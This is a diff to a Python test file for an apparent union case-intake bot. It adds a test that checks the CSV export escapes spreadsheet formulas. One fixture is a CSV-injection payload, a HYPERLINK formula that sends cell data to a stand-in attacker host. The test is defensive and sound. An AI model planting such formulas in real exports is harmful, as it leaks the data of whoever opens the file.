@@ -285,7 +285,8 @@ def seed_cases(workdir: Path) -> list[str]:
         for phone, district in (("13812345678", "武清区"), ("13900001111", "西青区")):
             view = await desk.submit(
                 CaseDraft("te-1", "telegram", "1", "wages", district, phone, None,
-                          "包工头拖欠工资两个月", datetime.now(UTC), CONSENT_VERSION)
+                          "包工头拖欠工资两个月", datetime.now(UTC), CONSENT_VERSION),
+                state_after=lambda _case: {},
             )  # fmt: skip
             numbers.append(view.number)
         second = await desk.get(2)
@@ -331,3 +332,37 @@ def test_cases_export_csv_for_the_unions_records(workdir: Path) -> None:
     assert rows[1]["status"] == "已结案" and rows[0]["district"] == "武清区"
     full = policybot("cases", "export", "--csv", "--full-phone", cwd=workdir)
     assert "13812345678" in full.stdout
+
+
+def test_cases_export_neutralises_formulas(workdir: Path) -> None:
+    """An employer typed as `=HYPERLINK(…)` is text in the union's spreadsheet (OWASP)."""
+    import asyncio
+    import csv
+    from datetime import UTC, datetime
+
+    from bot.storage.case_desk import SqlCaseDesk
+    from bot.storage.engine import create_engine_for, init_db
+    from handlers.cases import CONSENT_VERSION, CaseDraft, StaffMember
+
+    engine = create_engine_for(f"sqlite:///{workdir / 'test.db'}")
+    init_db(engine)
+    desk = SqlCaseDesk(engine, staff_chat=None)
+    employer = '=HYPERLINK("http://evil.example/?d="&A1,"点这里")'
+
+    async def submit() -> None:
+        view = await desk.submit(
+            CaseDraft("te-1", "telegram", "1", "wages", "武清区", "13812345678", employer,
+                      "@SUM(1+1) 老板拖欠工资", datetime.now(UTC), CONSENT_VERSION),
+            state_after=lambda _case: {},
+        )  # fmt: skip
+        await desk.add_note(view.id, StaffMember("telegram:9", "+李律师"), "-已联系")
+
+    asyncio.run(submit())
+    engine.dispose()
+    result = policybot("cases", "export", "--csv", "--out", "cases.csv", cwd=workdir)
+    assert result.returncode == 0, result.stderr
+    with open(workdir / "cases.csv", encoding="utf-8-sig", newline="") as file:
+        (row,) = list(csv.DictReader(file))
+    assert row["employer"] == "'" + employer
+    assert row["description"] == "'@SUM(1+1) 老板拖欠工资"
+    assert row["notes"] == "'+李律师: -已联系"
